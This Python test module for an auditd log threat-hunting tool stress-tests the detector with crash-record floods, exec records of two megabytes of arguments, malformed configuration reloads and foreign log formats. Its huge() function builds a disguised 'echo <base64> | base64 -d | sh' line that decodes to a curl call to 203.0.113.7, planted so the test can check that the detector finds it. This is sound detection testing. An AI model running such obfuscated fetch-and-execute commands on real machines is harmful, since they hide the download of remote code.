# SPDX-License-Identifier: GPL-3.0-or-later
"""What others write: floods of other records, arguments without end, files of
configuration that nobody should read, formats that are not auditd's."""

import base64
import json
import os
import random
import resource
import shutil
import signal
import subprocess
import time

from processes import LONG, check_all_came, check_gap, require
from rig import SANITIZED, Rig, check_laws, wait_for
from state import record
from suite import HUNT, ROOT, environment

START = 1700000000


def replay(data, *options):
    """All of it at once: its lines as objects, and the CPU time in seconds."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = subprocess.run([HUNT, "--stdout", "-o", "hunt_dir=conf/hunt.d",
                           *options], input=data, stdout=subprocess.PIPE,
                          cwd=ROOT, env=environment(), check=True)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return [json.loads(line) for line in done.stdout.splitlines()], \
        after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime


# ------------------------------------------------------- crashes in a loop

ABEND = (b'type=ANOM_ABEND msg=audit(%d.%03d:%d): auid=1000 uid=1000 gid=1000 '
         b'ses=3 pid=%d comm="a" exe="/tmp/a" sig=11 res=1\n')


def flood_of(seconds, abends, execs):
    """Both a second, mixed."""
    out, serial = [], 0
    each = (abends + execs) // execs
    for n in range(seconds * execs):
        for _ in range(each - 1):
            serial += 1
            out.append(ABEND % (START + n // execs, n % execs * 1000 // execs,
                                serial, serial % 30000 + 2))
        serial += 1
        out.append(record(serial, b"id; echo %d of them" % n, 1000,
                          n / execs))
    return out


def abends():
    """Programs that crash in a loop, whose records have no end: execs among
    them are neither late nor dear."""
    seconds = 30 if LONG else 4
    lines = flood_of(seconds, 4000, 2000)
    n = seconds * 2000
    _, without = replay(b"".join(line for line in lines
                                 if line.count(b"\n") > 1))
    out, with_them = replay(b"".join(lines))
    rate = (len(lines) - n + 4 * n) / with_them
    print("# %d records a second of CPU with the flood, %.2f s for %.2f s "
          "without it" % (rate, with_them, without))
    require(out[-1]["events_emitted"] >= n and not out[-1]["residual"],
            "%d events of %d" % (out[-1]["events_emitted"], n))
    require(SANITIZED or with_them <= 2 * without, "the flood takes %.2f s, "
            "the execs alone %.2f" % (with_them, without))
    alone = late_ms([line for line in lines if line.count(b"\n") > 1], 2000)
    flooded = late_ms(lines, 6000)
    print("# 99 of 100 execs come within %.0f ms, %.0f without the flood" % (
        flooded, alone))
    require(flooded <= 1000 + 2 * alone, "execs are late by %.0f ms, without "
            "the flood by %.0f" % (flooded, alone))


def late_ms(lines, rate):
    """How late after its writing was due an exec's line comes, p99."""
    n = sum(line.count(b"\n") > 1 for line in lines)
    with Rig(["spool_max = 1G"]) as rig:
        log, due = rig.path("log"), {}
        with open(log, "wb") as file:
            file.writelines(lines)
        for k, line in enumerate(lines):
            due[line.partition(b")")[0].rpartition(b":")[2]] = k / rate
        rig.start("-f", log, "-r", str(rate), "-h", "600000")
        start = time.monotonic()
        require(wait_for(120, lambda: len(rig.receiver.of("exec")) >= n),
                "not all execs came")
        rig.drain()
        report, status = rig.finish(), rig.status()
        check_laws(status)
        check_gap(report)
        late = sorted(line.time - start - due[line.event.partition(":")[2]
                                              .encode()]
                      for line in rig.receiver.of("exec"))
        require(len(late) == n, "%d of %d execs" % (len(late), n))
        return late[int(n * 0.99)] * 1000


# ------------------------------------------------- two megabytes of arguments

HEAD = (b'type=SYSCALL msg=audit(%(t)s): arch=c000003e syscall=59 success=yes '
        b'exit=0 a0=1 a1=2 a2=3 a3=8 items=0 ppid=9 pid=10 auid=1000 uid=0 '
        b'gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 '
        b'comm="sh" exe="/usr/bin/sh" key="exec"\n')
TAIL = (b'type=PROCTITLE msg=audit(%(t)s): proctitle="sh"\n'
        b'type=EOE msg=audit(%(t)s): \n')
WORDS = 1000
WORD_LEN = 2000


def huge(serial, place):
    """An exec of a thousand words; at one place, a command in Base64."""
    stamp = b"%d.%03d:%d" % (START + serial // 50, serial % 50 * 20, serial)
    hidden = b"echo %s | base64 -d | sh" % base64.b64encode(
        b"curl http://203.0.113.7/marker%d" % place)
    out, line = [HEAD % {b"t": stamp}], b""
    for n in range(WORDS):
        word = b' a%d=%s' % (n, hidden.hex().upper().encode()) \
            if n == place else b' a%d="%s"' % (n, (b"w%d_" % n) *
                                              (WORD_LEN // 5))
        if n == 0:
            line = b"argc=%d" % WORDS + word
        elif len(line) + len(word) > 7500:
            out.append(b"type=EXECVE msg=audit(%s): %s\n" % (stamp, line))
            line = word[1:]
        else:
            line += word
    out.append(b"type=EXECVE msg=audit(%s): %s\n" % (stamp, line))
    out.append(TAIL % {b"t": stamp})
    return b"".join(out)


def long_argv():
    """A payload anywhere in two megabytes of arguments is found."""
    places = range(WORDS) if LONG else sorted(
        {0, 1, WORDS // 2, WORDS - 2, WORDS - 1} |
        set(random.sample(range(WORDS), 15)))
    found, cpu, size = 0, 0, 0
    places = list(places)
    for at in range(0, len(places), 20):
        part = places[at:at + 20]
        data = b"".join(huge(n + 1, place) for n, place in enumerate(part))
        size += len(data)
        lines, took = replay(data)
        cpu += took
        by_serial = {int(line["id"].partition(":")[2]): line for line in lines
                     if line["evt"] == "exec"}
        for n, place in enumerate(part):
            line = by_serial.get(n + 1)
            require(line, "%d: no line" % place)
            require("marker%d" % place in line.get("decoded", ""),
                    "a payload at word %d of %d is not found: %s" % (
                        place, WORDS, str(line)[:200]))
            found += 1
    print("# %d of %d found; %.1f MB each, %.0f ms of CPU each" % (
        found, len(places), size / len(places) / 1e6,
        cpu * 1000 / len(places)))
    # Twice the figure: a busy machine's caches are others'.
    require(SANITIZED or cpu / len(places) <= 0.1, "%.0f ms each" % (
        cpu * 1000 / len(places)))


# ------------------------------------------------------------ configuration

def bad_files(rig):
    """Name, and what makes the configuration one that is not taken."""
    good = "min_score = 900\n"

    def write(text, mode=0o644):
        if os.path.lexists(rig.config):
            os.unlink(rig.config)
        with open(rig.config, "w", encoding="utf-8") as file:
            file.write(text)
        os.chmod(rig.config, mode)

    def link():
        os.unlink(rig.config)
        os.symlink("/etc/hostname", rig.config)

    def fifo():
        os.unlink(rig.config)
        os.mkfifo(rig.config, 0o644)

    def directory():
        os.unlink(rig.config)
        os.mkdir(rig.config)

    return (("only root reads", lambda: write(good, 0o600)),
            ("the group writes", lambda: write(good, 0o664)),
            ("all write", lambda: write(good, 0o646)),
            ("10 MB", lambda: write("# nothing\n" * (1 << 20))),
            ("half a line", lambda: write(good + "output = sys")),
            ("bytes", lambda: write(good + "\1\2\xff = \0\n")),
            ("a link", link), ("a pipe", fifo), ("a directory", directory))


def bad_reloads():
    """A configuration that cannot be read, or should not be believed, leaves
    the old one as it is."""
    with Rig() as rig:
        rig.start("-r", "200")
        require(wait_for(20, lambda: rig.receiver.of("exec")), "no lines")
        for n, (name, spoil) in enumerate(bad_files(rig)):
            spoil()
            os.kill(rig.front, signal.SIGHUP)
            require(wait_for(20, lambda: rig.ask()["reload_errors"] == n + 1),
                    name, "is no error")
            before = len(rig.receiver.of("exec"))
            require(wait_for(20, lambda: len(rig.receiver.of("exec")) >
                             before + 20), name, "was taken")
        os.rmdir(rig.config)
        rig.configure()
        os.kill(rig.front, signal.SIGHUP)
        require(wait_for(20, lambda: rig.ask()["reloads"] == 1), "no reload")
        rig.drain()
        report, status = rig.finish(), rig.status()
        check_laws(status)
        check_all_came(rig, report["events"])
        require(status["engine_starts"] == 1, "an engine died of it")
        check_gap(report)


# ------------------------------------------------------------- other formats

def auoms_lines():
    with open(os.path.join(ROOT, "tests/golden/plain.auoms"), "rb") as file:
        return file.read().splitlines()


def interpreted():
    """As ausearch -i shows a log."""
    with open(os.path.join(ROOT, "tests/golden/plain.log"), "rb") as file:
        data = file.read()
    if not shutil.which("ausearch"):
        return []
    done = subprocess.run(["ausearch", "-i", "-if",
                           "tests/golden/plain.log"], cwd=ROOT,
                          capture_output=True, check=False)
    return done.stdout.splitlines() if data else []


def foreign():
    """Lines that other programs write are no records; those among them are."""
    good = [record(n, b"id; echo %d" % n, 1000, n) for n in range(1, 51)]
    odd = [b"", b"----", b"time->Sat Nov 28 10:00:00 2026",
           b'{"ID":"1700000000.001:1","NODE":"x","SYSCALL":{"arch":"x"}}',
           b"<13>Nov 28 10:00:00 host audisp: type=EXECVE msg=audit(1.1:1): "
           b'argc=1 a0="x"',
           b"node= type=EXECVE msg=audit(1700000000.001:1): argc=1 a0=\"x\"",
           b"node=a=b type=SYSCALL msg=audit(1700000000.001:1): arch=1",
           b"type=SYSCALL audit(1700000000.001:1): arch=c000003e syscall=59"]
    odd += auoms_lines() + interpreted()
    dice = random.Random(27)
    data = []
    for event in good:
        data += [dice.choice(odd) + b"\n" for _ in range(4)] + [event]
    data += [line + b"\n" for line in odd]
    lines, _ = replay(b"".join(data))
    serials = [int(line["id"].partition(":")[2]) for line in lines
               if line["evt"] == "exec" and "node" not in line]
    status = lines[-1]
    check_laws(status)
    require(serials == list(range(1, 51)), "execs: %s" % serials[:60])
    require(status["lines_malformed"] > 100, "malformed: %d" %
            status["lines_malformed"])
    print("# %d lines, %d of them taken for no records" % (
        status["lines"], status["lines_malformed"]))


CASES = (abends, long_argv, bad_reloads, foreign)
